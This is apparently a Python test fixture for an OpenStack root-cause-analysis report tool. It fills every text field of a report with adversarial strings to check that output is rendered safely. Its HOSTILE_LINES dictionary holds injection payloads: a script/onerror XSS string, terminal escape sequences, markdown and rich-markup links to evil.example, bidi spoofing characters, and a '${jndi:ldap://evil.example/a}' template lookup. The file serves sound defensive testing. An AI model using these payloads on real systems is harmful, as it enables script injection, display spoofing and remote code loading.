"""Text that wants to be more than text, and a report that is made of it."""

from report_samples import START, activity_rows, confirmed, evidence, failed_request, later_episode

from openstack_rca.rca.report.report import (
    ConfidencePart,
    FileSummary,
    Hop,
    ModelUsed,
    Report,
    RequestPath,
    RuledOut,
    SimilarIncident,
    TimelineEntry,
)

HOSTILE_LINES = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)></pre></td></html>",
    "ansi": "\x1b[2J\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b1A \x1bP+q\x1b\\ \x08\x08\x08",
    "fence": "```\n````\n# heading\n`````sh\n[link](http://evil.example/)",
    "markdown": "**bold** _em_ [x](javascript:alert(1)) ![i](http://evil.example/p) @everyone #1 <b>b</b> | a | :boom:",
    "rich": "[red]danger[/red] [/] [link=http://evil.example]x[/link] :boom: [bold",
    "bidi": "user=\u202etxt.exe\u202c \u2066hidden\u2069 zero\u200bwidth \ufeff \U000e0041",
    "long": "x" * 300_000,
    "combining": "Z" + "\u0301" * 400,
    "wide": "\u65e5\u672c\u8a9e" * 200,
    "template": "{{ 7 * 7 }} {% for x in y %} ${jndi:ldap://evil.example/a}",
}


def hostile(text: str) -> Report:
    """Return the confirmed report with ``text`` in every place where a report holds text."""
    base = confirmed()
    cause = base.causes[0].model_copy(
        update={
            "component": text,
            "host": text,
            "statement": text,
            "confidence_parts": [ConfidencePart(name=text, value=0.5, note=text)],
            "evidence": [
                evidence(file=text, text=text, why=text, accuses=text, accused_host=text, baseline=text, signature=text)
            ]
            * 7,
            "explains": [text],
            "remedy": text,
            "next_checks": [text],
        }
    )
    return base.model_copy(
        update={
            "issue": text,
            "logs": [text],
            "summary": text,
            "causes": [cause],
            "chain": [Hop(source=text, target="nova-api", supported=False, note=text)],
            "timeline": [TimelineEntry(time=START, component=text, host=text, text=text, kind=text)],
            "activity": [row.model_copy(update={"component": text}) for row in activity_rows()[:1]],
            "requests": [_hostile_request(text)],
            "episodes": [
                later_episode().model_copy(
                    update={
                        "component": text,
                        "host": text,
                        "statement": text,
                        "evidence": [evidence(file=text, text=text)],
                    }
                )
            ],
            "blast_radius": [text],
            "ruled_out": [RuledOut(component=text, reason=text)],
            "similar": [
                SimilarIncident(
                    id=text,
                    time=START,
                    issue=text,
                    component=text,
                    confirmed=known,
                    similarity=0.5,
                    verdict=text,
                    source=text,
                    note=text,
                    shared=[text],
                )
                for known in (True, False)
            ],
            "id": text,
            "missing": [text],
            "files": [FileSummary(file=text, lines=1, events=1, unknown_lines=1, format=text)],
            "model": ModelUsed(name=text, version=text, digest=text, source=text, notices=[text]),
            "seconds": {text: 1.0},
            "command": text,
        }
    )


def _hostile_request(text: str) -> RequestPath:
    path = failed_request()
    changes = {"component": text, "host": text, "file": text, "level": text, "text": text}
    steps = [step.model_copy(update=changes) for step in path.steps]
    return path.model_copy(update={"request_id": text, "instance_id": text, "steps": steps})
